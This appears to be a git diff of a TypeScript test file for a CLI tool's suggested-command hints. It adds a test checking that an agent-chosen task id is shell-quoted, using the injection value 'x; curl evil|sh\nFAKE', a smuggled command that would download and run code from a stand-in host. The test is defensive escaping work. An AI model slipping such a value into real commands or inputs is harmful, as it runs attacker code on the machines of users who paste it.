@@ -10,7 +10,7 @@ import { Effect, Exit, type Layer, ManagedRuntime } from "effect"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import { terminalHint, TERMINAL_WORDS } from "../../src/cli/hints.js"
 import { type Described, isDescribed } from "../../src/domain/errors.js"
-import type { Action, ActionTag } from "../../src/domain/hints.js"
+import { act, type Action, type ActionTag } from "../../src/domain/hints.js"
 import { ASSISTANT_WORDS, assistantHint } from "../../src/mcp/hints.js"
 import { deletePushConfig, getPushConfig, setPushConfig } from "../../src/programs/pushConfig.js"
 import { sendMessage } from "../../src/programs/sendMessage.js"
@@ -37,6 +37,7 @@ const SAMPLES: { readonly [Tag in ActionTag]: Extract<Action, { readonly _tag: T
   ListPushConfigs: { _tag: "ListPushConfigs", agentUrl: URL_, taskId: "t-1" },
   SetPushConfig: { _tag: "SetPushConfig", agentUrl: URL_, taskId: "t-1" },
   ClearSession: { _tag: "ClearSession", agentUrl: URL_ },
+  ReplyInSession: { _tag: "ReplyInSession", agentUrl: URL_ },
   SendNewMessage: { _tag: "SendNewMessage", agentUrl: URL_ },
   PinInterface: { _tag: "PinInterface", offered: ["GRPC 1.0"] },
   RaiseRequestTimeout: { _tag: "RaiseRequestTimeout" },
@@ -181,6 +182,11 @@ describe("hints that name the actual fix", () => {
     expect(result.code).toBe(2)
     expect(result.stderr).toContain("--bearer-token")
     expect(result.stderr).not.toContain("bearer_token")
+  })
+
+  it("ids an agent chose are quoted and escaped in suggested commands, so a paste runs nothing else", () => {
+    const words = terminalHint([act("FollowTask", { agentUrl: URL_, taskId: "x; curl evil|sh\nFAKE" })])
+    expect(words).toBe(`relay task resubscribe --url ${URL_} 'x; curl evil|sh\\nFAKE'`)
   })
 
   it("a silent stream names --stream-idle-timeout, a whole wait names --wait, a slow request --timeout", async () => {
